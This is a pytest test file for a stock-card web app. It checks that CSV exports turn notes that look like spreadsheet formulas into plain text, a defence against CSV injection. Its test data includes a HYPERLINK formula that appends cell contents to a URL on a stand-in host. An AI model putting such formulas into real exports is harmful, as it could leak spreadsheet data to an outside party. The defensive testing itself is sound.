"""CSV exports open safely in a spreadsheet: a note typed as a formula comes out as
text (OWASP CSV injection), read back with Python's csv module as Excel would split it."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from api.app import create_app
from blangko import reports, stock
from blangko.db import session_scope
from blangko.ledger import SYSTEM
from blangko.models import Role
from blangko.offices import get_office, local_today
from blangko.users import create_user

PASSWORD = "rahasia-petugas-123"
FORMULAS = [
    '=HYPERLINK("http://x"&A1,"klik")',
    "+62 812 (telepon)",
    "-1+1 selisih",
    "@SUM(A1:A9)",
]  # notes are stripped: a leading tab or CR cannot reach a card (tests/unit)


@pytest.fixture
def officer(sqlite_engine: Engine) -> Iterator[TestClient]:
    """An officer of 32.16 signed in on the web, whose stock card has a movement for each
    formula-like note."""
    with session_scope() as session:
        create_user(
            session=session,
            username="petugas.bekasi",
            password=PASSWORD,
            role=Role.officer,
            office_code="32.16",
        )
        today = local_today(get_office(session=session, code="32.16"))
        stock.record_stock_count(
            session=session,
            office_code="32.16",
            counted_quantity=1000,
            counted_on=today - timedelta(days=30),
            actor=SYSTEM,
            note="-stok awal",
        )
        for n, note in enumerate(FORMULAS):
            reports.save_daily_report(
                session=session,
                office_code="32.16",
                report_date=today - timedelta(days=10 - n),
                figures=reports.DailyFigures(printed=10 + n),
                note=note,
                actor=SYSTEM,
            )
    with TestClient(create_app()) as client:
        page = client.get("/login")
        token = re.search(r'name="csrf" value="([^"]+)"', page.text)
        assert token
        answer = client.post(
            "/login",
            data={"username": "petugas.bekasi", "password": PASSWORD, "csrf": token.group(1)},
            follow_redirects=False,
        )
        assert answer.status_code == 303
        yield client


def test_stock_card_csv_neutralises_formula_cells(officer: TestClient) -> None:
    export = officer.get("/kantor/32.16/kartu-stok.csv?dari=2011-01-01")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    notes = [row[header.index("catatan")] for row in body]
    for note in [*FORMULAS, "-stok awal"]:
        assert "'" + note in notes, f"{note!r} not exported as text: {notes}"
    every_cell = [cell for row in body for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The figures stay numbers: 1000 counted, then ten more printed each day.
    balances = [row[header.index("saldo")] for row in body if row[header.index("mutasi")]]
    assert balances[:3] == ["1000", "990", "979"]
